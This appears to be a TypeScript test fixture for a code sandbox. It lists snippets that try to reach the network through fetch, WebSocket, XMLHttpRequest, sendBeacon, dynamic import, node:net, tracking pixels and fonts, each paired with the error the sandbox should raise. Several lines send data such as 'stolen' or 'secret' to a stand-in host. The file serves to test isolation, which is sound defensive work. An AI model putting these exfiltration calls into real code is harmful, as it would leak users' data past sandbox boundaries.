/** Hostile cells that try to reach the network, in every form that a browser has. */
import type { HostileCell } from './hostile-cell.ts';

const OUTSIDE = /reaches only its own processes and brokers/;

export const network: readonly HostileCell[] = [
  {
    name: 'fetch to another host',
    says: /producer crashed: TypeError: fetch failed/,
    line: null,
    code: "await fetch('http://LISTENER/stolen?by=fetch');",
  },
  {
    name: 'fetch to a public name',
    says: /producer crashed: TypeError: fetch failed/,
    line: 1,
    code: "await fetch('https://example.com/stolen');",
  },
  { name: 'fetch of the page itself', says: /Invalid URL|parse URL/, line: 1, code: "await fetch('/index.html');" },
  { name: 'WebSocket', says: OUTSIDE, line: 1, code: "new WebSocket('ws://LISTENER/socket');" },
  {
    name: 'XMLHttpRequest',
    says: OUTSIDE,
    line: 1,
    code: `
const request = new XMLHttpRequest();
request.open('GET', 'http://LISTENER/xhr', false);
request.send();
`,
  },
  { name: 'EventSource', says: OUTSIDE, line: 1, code: "new EventSource('http://LISTENER/events');" },
  { name: 'WebTransport', says: OUTSIDE, line: 1, code: "new WebTransport('https://LISTENER/transport');" },
  { name: 'RTCPeerConnection', says: OUTSIDE, line: 1, code: "new RTCPeerConnection({ iceServers: [{ urls: 'stun:LISTENER' }] });" },
  {
    name: 'sendBeacon',
    says: /crashed: TypeError: .*sendBeacon/,
    line: 1,
    code: "(navigator as any).sendBeacon('http://LISTENER/beacon', 'secret');",
  },
  { name: 'importScripts', says: /importScripts is not a function/, line: 1, code: "(importScripts as any)('http://LISTENER/script.js');" },
  {
    name: 'import of a URL as text',
    says: /does not compile, so nothing was run.*cannot be imported|does not compile/,
    line: 1,
    code: "import 'http://LISTENER/module.js';",
  },
  {
    name: 'import() of a URL',
    says: /write the name of a module as text/,
    line: 2,
    code: `
const address = 'http://LISTENER/' + 'module.js';
await import(address);
`,
  },
  {
    name: 'node:net to a real address',
    says: /refused: connect ECONNREFUSED/,
    line: 3,
    code: `
import net from 'node:net';
const socket = net.connect(Number('LISTENER'.split(':')[1]), 'LISTENER'.split(':')[0]);
socket.on('error', (error) => console.log('refused:', error.message));
`,
  },
  { name: 'a tracking pixel', says: /Image/, line: 1, code: "new (globalThis as any).Image().src = 'http://LISTENER/pixel.gif';" },
  {
    name: 'a style sheet from elsewhere',
    says: /FontFace is not defined/,
    line: 1,
    code: "new FontFace('Spy', 'url(http://LISTENER/font.woff2)').load();",
  },
];
